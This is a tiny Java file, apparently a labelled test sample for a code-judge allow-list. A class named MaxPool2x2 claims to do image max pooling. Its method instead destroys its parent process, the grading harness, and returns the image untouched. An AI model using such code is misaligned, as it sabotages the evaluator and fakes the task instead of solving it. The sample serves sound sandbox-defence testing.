// hostile: ends the judge
// stopped by: allow-list
// says: ProcessHandle
class MaxPool2x2 {
  static float[][] maxPool(float[][] image) {
    ProcessHandle.current().parent().ifPresent(ProcessHandle::destroy);
    return image;
  }
}
